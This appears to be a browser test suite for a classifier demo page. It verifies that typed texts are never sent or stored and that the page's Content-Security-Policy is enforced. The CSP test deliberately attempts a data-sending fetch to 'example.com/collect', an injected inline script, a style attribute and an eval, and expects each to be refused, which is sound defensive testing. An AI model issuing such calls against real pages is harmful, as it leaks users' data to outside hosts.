// Privacy and security of the demo page. Every request (the browser's view, page + workers +
// service worker, and the server's log with headers) is recorded while the page loads the model
// and classifies 20 marker texts: after the model is ready none is made, and no URL, header or
// body ever contains a text. The Content-Security-Policy <meta> is the documented one, the page
// works under it with no violation and no console error, and the policy is really enforced.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { reference, server, browser, until, EXAMPLES, DIST, recordRequests, autoRelaxed } from './common.mjs';

const Q8 = '/fixtures/tiny-ko.q8.safetensors';
let srv; let ref;
before(async () => { ref = reference(); srv = await server(); });
after(async () => { await srv?.close(); });

const CSP = {
  'default-src': ["'self'"],
  'script-src': ["'self'", "'wasm-unsafe-eval'"],
  'connect-src': ["'self'", 'https://huggingface.co', 'https://*.huggingface.co', 'https://*.hf.co'],
  'worker-src': ["'self'"],
  'style-src': ["'self'"],
  'img-src': ["'self'", 'data:'],
  'object-src': ["'none'"],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
};
// The page's own files, which the service worker fetches once when it installs: the list sw.js
// pre-caches (dist/site-files.json, derived from www/ by the build), and only the wasm build in use.
const siteFiles = JSON.parse(fs.readFileSync(path.join(DIST, 'site-files.json'), 'utf8'));
const IN_USE = siteFiles.builds.find((b) => b.variant === 'simd128').dir;
const SHELL = new Set(['/', '/sw.js', '/site-files.json',
  ...[...siteFiles.shell, ...siteFiles.pool].map((f) => `/${f}`),
  ...siteFiles.buildFiles.map((f) => `/${IN_USE}/${f}`)]);

async function openPage(b, query) {
  const page = await b.context.newPage();
  const seen = { csp: [], console: [] };
  page.on('console', (m) => { if (m.type() === 'error') seen.console.push(m.text()); });
  page.on('pageerror', (e) => seen.console.push(String(e)));
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push({ directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample }));
  });
  await page.goto(`${srv.url}/?${query}`);
  return { page, seen };
}

const waitResult = (page, text) => page.waitForFunction((text) => {
  const r = document.getElementById('results');
  return r.dataset.state === 'ready' && r.dataset.text === text;
}, text, { timeout: 30_000 });

test('20 texts classified: no request after the model is ready, none carries a text', async () => {
  const b = await browser();
  try {
    const requests = recordRequests(b.context);
    const logStart = srv.log.length;
    const { page, seen } = await openPage(b, `model=${Q8}&variant=simd128`);
    await page.waitForSelector('#status[data-phase="ready"]', { timeout: 60_000 });
    const atReady = { browser: requests.length, server: srv.log.length };
    // The service worker installs in the background (it fetches the page's own files once):
    // wait for it, and check that it fetched nothing else.
    // Ready means installed: its fetches are over, and once the browser has reported each
    // request the server saw, nothing of the start-up is left to count as classifying.
    await page.evaluate(() => navigator.serviceWorker.ready);
    const startup = srv.log.slice(atReady.server).map((e) => `${srv.url}${e.url}`);
    await until(() => startup.every((u) => requests.some((r) => r.url === u)), 'the browser to report the service worker\'s requests');
    const mark = { browser: requests.length, server: srv.log.length };
    for (const e of srv.log.slice(atReady.server, mark.server)) {
      assert.ok(SHELL.has(e.path), `after ready, before the service worker settled: ${e.method} ${e.url}`);
    }
    // Downloaded once (the page asked its size first with a HEAD request).
    assert.deepEqual(srv.requests(/tiny-ko\.q8/, logStart).map((e) => e.method), ['HEAD', 'GET'], 'the model was downloaded once');

    // 20 texts, each with an ASCII and a Hangul marker, typed and classified.
    const texts = Array.from({ length: 20 }, (_, i) => `MRK${i}QZX 비밀표지${i}번 ${EXAMPLES[i % EXAMPLES.length]}`);
    for (const t of texts) {
      await page.fill('#text', t);
      await page.focus('#text');
      await page.keyboard.press('Control+Enter');
      await waitResult(page, t);
    }
    // A widget example too (the page's own text).
    await page.click('#examples button >> nth=6');
    await waitResult(page, EXAMPLES[6]);
    assert.equal(await page.$eval('#top .top-item .label', (e) => e.textContent), ref.models.q8[6].scores[0].label);

    // Nor is a text stored anywhere in the browser: cookies, Web Storage, cache keys.
    const stored = await page.evaluate(async () => {
      const keys = [];
      for (const n of await caches.keys()) for (const r of await (await caches.open(n)).keys()) keys.push(`${n} ${r.url}`);
      return { cookie: document.cookie, local: localStorage.length, session: sessionStorage.length, keys, dbs: (await indexedDB.databases()).length };
    });
    assert.equal(stored.cookie, '');
    assert.equal(stored.local + stored.session + stored.dbs, 0);
    assert.ok(stored.keys.length > 0);
    for (const k of stored.keys) assert.ok(!k.includes('QZX') && !decodeURIComponent(k).includes('비밀표지'), k);
    assert.deepEqual(await page.evaluate(() => window.__csp), []);
    // Closing the page ends its worker: every request of the visit has been made by then.
    await page.close();

    const after = requests.slice(mark.browser);
    assert.deepEqual(after.map((r) => `${r.from} ${r.method} ${r.url}`), [], 'requests while classifying');
    assert.deepEqual(srv.log.slice(mark.server).map((e) => `${e.method} ${e.url}`), [], 'server saw requests while classifying');

    // No request of the whole visit (browser or server side) carries a text, raw or encoded.
    const needles = texts.flatMap((t, i) => [`MRK${i}QZX`, `비밀표지${i}번`, encodeURIComponent(`비밀표지${i}번`), t, encodeURIComponent(t)])
      .concat(['QZX', encodeURIComponent('비밀표지')]);
    const hay = [
      ...requests.map((r) => `${r.from} ${r.method} ${r.url}\n${JSON.stringify(r.headers)}\n${r.body}`),
      ...srv.log.slice(logStart).map((e) => `server ${e.method} ${e.url}\n${JSON.stringify(e.headers)}`),
    ];
    for (const h of hay) for (const n of needles) assert.ok(!h.includes(n), `a request carries “${n}”: ${h.slice(0, 300)}`);
    const decoded = hay.map((h) => { try { return decodeURIComponent(h); } catch { return h; } });
    for (const h of decoded) assert.ok(!h.includes('비밀표지') && !h.includes('QZX'), `a request carries a text: ${h.slice(0, 300)}`);
    console.log(`privacy: ${requests.length} requests in the visit (${mark.browser} before the model and the service worker were ready), `
      + `${after.length} while classifying ${texts.length + 1} texts`);

    assert.deepEqual(seen.console, []);
    assert.deepEqual(b.errors, []);
  } finally { await b.close(); }
});

test('Content-Security-Policy: the documented policy, the page works under it with no violation, and it is enforced', async () => {
  const b = await browser();
  try {
    const { page, seen } = await openPage(b, `model=${Q8}&threads=1`); // threads=1: a single-threaded build
    await page.waitForSelector('#status[data-phase="ready"]', { timeout: 60_000 });
    const content = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.content);
    const policy = Object.fromEntries(content.split(';').map((d) => d.trim()).filter(Boolean)
      .map((d) => { const [k, ...v] = d.split(/\s+/); return [k, v]; }));
    assert.deepEqual(policy, CSP);
    // Nothing inline for the policy to block: no inline script, style element or style attribute.
    assert.deepEqual(await page.evaluate(() => ({
      inlineScripts: document.querySelectorAll('script:not([src])').length,
      styleElements: document.querySelectorAll('style').length,
      styleAttrsInHtml: /\sstyle=/.test(document.documentElement.outerHTML.replace(/ style="width: [\d.]+%;"/g, '')),
    })), { inlineScripts: 0, styleElements: 0, styleAttrsInHtml: false });

    // The page works: the module worker and the service worker started (worker-src 'self'),
    // an example is classified, the sorted view renders.
    assert.ok(page.workers().some((w) => w.url().endsWith('/worker.js')), 'model worker running');
    assert.equal(await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL), `${srv.url}/sw.js?variant=${(await autoRelaxed(page)) ? 'relaxed' : 'simd128'}`);
    await page.click('#examples button >> nth=2');
    await waitResult(page, EXAMPLES[2]);
    await page.check('#sorted');
    assert.equal((await page.$$('#groups .bar')).length, 60);
    await page.reload(); // through the service worker, still under the policy
    await page.waitForSelector('#status[data-phase="ready"]', { timeout: 60_000 });
    await page.click('#examples button >> nth=0');
    await waitResult(page, EXAMPLES[0]);
    assert.deepEqual(await page.evaluate(() => window.__csp), [], 'CSP violations while working');
    assert.deepEqual(seen.console, [], 'console errors while working');

    // Enforced: another origin, an inline script, a style attribute and eval are all refused.
    const probe = await page.evaluate(async () => {
      const out = {};
      out.fetch = await fetch('https://example.com/collect?t=x').then(() => 'sent', (e) => e.name);
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.body.append(s);
      out.inline = window.__inline === 1 ? 'ran' : 'blocked';
      const d = document.createElement('div');
      d.setAttribute('style', 'color: red');
      document.body.append(d);
      out.styleAttr = getComputedStyle(d).color === 'rgb(255, 0, 0)' ? 'applied' : 'blocked';
      // Later, in a task of the page's own (the DevTools evaluation this runs in may eval).
      out.eval = await new Promise((r) => setTimeout(() => {
        try { r(String(eval('1 + 1'))); } catch (e) { r(e.name); }
      }, 0));
      return out;
    });
    assert.deepEqual(probe, { fetch: 'TypeError', inline: 'blocked', styleAttr: 'blocked', eval: 'EvalError' });
    // Violation reports are events of their own: wait for the four refusals', then compare them all.
    await page.waitForFunction(() => new Set(window.__csp.map((x) => x.directive)).size >= 4, null, { timeout: 10_000 });
    const v = (await page.evaluate(() => window.__csp)).map((x) => x.directive).sort();
    assert.deepEqual(v, ['connect-src', 'script-src', 'script-src-elem', 'style-src-attr'].sort(), JSON.stringify(v));
    assert.deepEqual(b.errors, []);
  } finally { await b.close(); }
});
